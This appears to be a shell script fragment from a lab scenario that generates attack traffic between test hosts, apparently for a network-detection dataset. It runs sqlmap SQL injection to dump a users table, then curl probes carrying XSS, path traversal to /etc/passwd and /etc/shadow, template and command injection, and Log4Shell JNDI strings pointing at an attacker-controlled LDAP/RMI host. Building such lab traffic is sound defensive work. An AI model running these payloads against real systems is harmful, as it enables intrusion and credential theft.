# sourced by run-scenario.sh: the story played between the hosts
# Web attacks without a foothold: sqlmap (UNION and boolean-blind techniques, level 3) on the
# GET parameter id of product.php, dumping the users table (passwords leak in the responses);
# then hand-made probes with curl: XSS, path traversal with double URL encoding,
# template injection, command injection, and JNDI (Log4Shell) strings in headers. The probes
# are attempts only: the pages they aim at do not exist or do not run them.
NET=10.13.37; ATT=200; VIC=80; CLI=81; DNS=254; SHELLPORT=0
play() {
  note "attacker $A; victim $V (Apache+PHP on port 80); benign client $C; dns server $D"
  benign_background
  nsx cli curl -s -A "$CHROME" -o /dev/null "$URL/product.php?id=2"
  note "1 the attacker looks at a product page with a Firefox UA: /browse.php, /product.php?id=1, /product.php?id=3"
  for p in /browse.php '/product.php?id=1' '/product.php?id=3'; do nsx att curl -s -A "$BROWSER" -o /dev/null "$URL$p"; sleep 0.8; done
  note "2 SQL injection: sqlmap 1.7.2 (UA sqlmap/1.7.2#stable) GET /product.php?id=1, -p id, --technique=UB --level=3 --risk=1, --dbms=SQLite, then --dump -T users: the UNION answers leak admin/S3cr3t! and bob/bobthe"
  nsx att timeout 300 sqlmap -u "$URL/product.php?id=1" -p id --batch --flush-session --output-dir="$RUN/sqlmap" \
      --technique=UB --level=3 --risk=1 --dbms=SQLite >"$RUN/logs/sqlmap.log" 2>&1 || true
  nsx att timeout 300 sqlmap -u "$URL/product.php?id=1" -p id --batch --output-dir="$RUN/sqlmap" \
      --technique=UB --level=3 --risk=1 --dbms=SQLite --dump -T users >>"$RUN/logs/sqlmap.log" 2>&1 || true
  sleep 2
  benign_background
  note "3 hand-made probes with curl (UA curl/7.88.1 unless said), all attempts that fail (404 or not run):"
  probe() { note "   $1"; shift; nsx att curl -s -o /dev/null "$@"; sleep 0.6; }
  probe "xss: reflected script tag, double URL-encoded" "$URL/search.php?q=%253Cscript%253Ealert(document.cookie)%253C%252Fscript%253E"
  probe "xss: svg onload, single URL-encoded, in product.php?id" "$URL/product.php?id=%3Csvg%2Fonload%3Dalert(1)%3E"
  probe "xss: img onerror in a POST form body to index.php" --data-urlencode 'username=<img src=x onerror=alert(1)>' --data-urlencode 'password=x' "$URL/index.php"
  probe "path traversal: double URL-encoded ../../../etc/passwd" "$URL/download.php?file=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"
  probe "path traversal: plain ../ in a path, curl --path-as-is" --path-as-is "$URL/uploads/../../../../etc/passwd"
  probe "path traversal: overlong UTF-8 ..%c0%af" --path-as-is "$URL/download.php?file=..%c0%af..%c0%af..%c0%afetc%c0%afshadow"
  probe "template injection: {{7*7}} URL-encoded" "$URL/search.php?q=%7B%7B7*7%7D%7D"
  probe "template injection: \${7*7} and <%= 7*7 %> raw in the query" -g "$URL/search.php?name=\${7*7}&tpl=<%25=7*7%25>"
  probe "command injection: ;id and |cat /etc/passwd" "$URL/ping.php?host=127.0.0.1%3Bid" 
  probe "command injection: \$(whoami) backticks in a POST body" --data-urlencode 'host=127.0.0.1 && $(whoami) `id`' "$URL/ping.php"
  probe "jndi: \${jndi:ldap://$A:1389/Exploit} in the User-Agent to /" -A "\${jndi:ldap://$A:1389/Exploit}" "$URL/"
  probe "jndi: obfuscated \${\${lower:j}ndi:\${lower:r}mi://$A:1099/a} in X-Api-Version and Referer" -H "X-Api-Version: \${\${lower:j}ndi:\${lower:r}mi://$A:1099/a}" -e "\${jndi:dns://$A/ref}" "$URL/about.php"
  sleep 1
  benign_background
}
